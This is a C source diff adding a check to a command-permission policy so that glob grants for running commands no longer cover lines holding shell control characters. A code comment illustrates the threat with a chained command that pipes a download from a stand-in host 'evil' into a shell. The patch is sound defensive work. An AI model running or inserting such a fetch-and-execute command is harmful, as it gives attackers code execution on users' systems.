@@ -270,6 +270,13 @@ policy_grant_parse(const char *text, struct err *e)
 	return 0;
 }
 
+/*
+ * A command line with one of these does more than one thing ("make x;
+ * curl evil | sh"): a glob grant ("run:make *") does not cover it, only a
+ * grant of exactly that line does.
+ */
+#define SHELL_CONTROL ";&|`$<>()\n"
+
 /* The first valid grant of kind k whose glob matches target, or NULL.
  * Borrowed from grants. */
 static const char *
@@ -284,6 +291,9 @@ grant_find(const struct strvec *grants, enum kind k, const char *target)
 		if (policy_grant_parse(g, NULL) ||
 		    strncmp(g, kind_names[k], len) || g[len] != ':')
 			continue;
+		if (k == KIND_RUN && strpbrk(target, SHELL_CONTROL) &&
+		    strcmp(g + len + 1, target))
+			continue; /* see SHELL_CONTROL */
 		if (!fnmatch(skip_dot_slash(g + len + 1), target, 0))
 			return g;
 	}
